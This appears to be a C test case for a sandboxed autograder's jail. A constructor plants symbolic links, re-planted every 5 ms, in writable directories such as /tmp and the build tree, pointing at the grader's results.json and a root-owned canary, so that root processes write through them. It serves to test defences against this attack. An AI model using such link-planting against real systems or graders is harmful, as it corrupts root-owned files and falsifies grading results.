/* Attack (root follows a link): plant symbolic links wherever the jail's user can write,
 * pointing at root's files (the results, and a canary the check watches): at every name in
 * its own directory, and at every free name the grader has used or might use elsewhere. A
 * detached helper plants them again every 5 ms while the grade goes on. Any root process that
 * opens, creates or truncates one of those paths writes through the link. Without the jail
 * the code is root's and writes the canary itself; in the jail root never touches a path
 * below a directory this user can write, the canary stays as it was and the links are
 * removed after the test. */
#include <dirent.h>
#include <limits.h>

#include "common.h"

static char canary[PATH_MAX + 32], results[PATH_MAX + 32];

/* A link at dir/name to target. It never removes a file it did not make (without the jail
 * it runs as root, on the checking machine): it plants at free names, replaces its own links,
 * and replaces other entries only in the jail user's own directory. */
static void plant(const char *dir, const char *name, const char *target)
{
    char path[PATH_MAX + 300], old[PATH_MAX + 64];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    ssize_t n = readlink(path, old, sizeof old - 1);
    if (n >= 0)
        old[n] = 0;
    int ours = n >= 0 && (strcmp(old, canary) == 0 || strcmp(old, results) == 0);
    if (ours || (access(path, F_OK) == 0 && strcmp(dir, "build/jail/student") == 0) ||
        (n < 0 && errno == EINVAL && strcmp(dir, "build/jail/student") == 0))
        unlink(path);
    if (symlink(target, path) != 0)
        return;
}

static void plant_all(const char *dir)
{
    static const char *ex[] = {"gemm_blocked", "grad_check", "sgd_nesterov", "relu_bias_backward"};
    static const char *who[] = {"student", "solution", "skeleton"};
    static const char *ext[] = {".so", ".so.log", ".c", ".nm", ".so.key", ".log", ".one.out",
                                ".one.tap"};
    char name[256];
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d)))
        if (e->d_name[0] != '.')
            plant(dir, e->d_name, canary);
    if (d)
        closedir(d);
    for (size_t i = 0; i < 4; i++)
        for (size_t j = 0; j < 3; j++)
            for (size_t k = 0; k < sizeof ext / sizeof *ext; k++) {
                snprintf(name, sizeof name, "%s-ch1-%s%s", who[j], ex[i], ext[k]);
                plant(dir, name, canary);
            }
    const char *more[] = {"results.json", "results.json.new", "submission-note", "writable",
                          "sweep.log", "build.log", "note", "canary"};
    for (size_t i = 0; i < sizeof more / sizeof *more; i++)
        plant(dir, more[i], i < 2 ? results : canary);
}

__attribute__((constructor)) static void attack(void)
{
    const char *dirs[] = {"build/jail/student", "build/jail/so", "build/jail/src", "build/ex",
                          "build/tmp", "build", "/tmp", "/var/tmp", "/dev/shm"};
    char cwd[PATH_MAX];
    if (!getcwd(cwd, sizeof cwd))
        return;
    snprintf(canary, sizeof canary, "%s/../canary", cwd);
    snprintf(results, sizeof results, "%s/../results/results.json", cwd);
    FILE *f = fopen(canary, "w"); /* root's file: only root (no jail) can write it */
    if (f)
        fprintf(f, "written by the attack\n"), fclose(f);
    for (size_t i = 0; i < sizeof dirs / sizeof *dirs; i++)
        if (access(dirs[i], W_OK) == 0)
            plant_all(dirs[i]);
    if (!detached())
        return;
    for (int round = 0; round < 12000; round++) {
        for (size_t i = 0; i < sizeof dirs / sizeof *dirs; i++)
            if (access(dirs[i], W_OK) == 0)
                plant_all(dirs[i]);
        usleep(5000);
    }
    _exit(0);
}
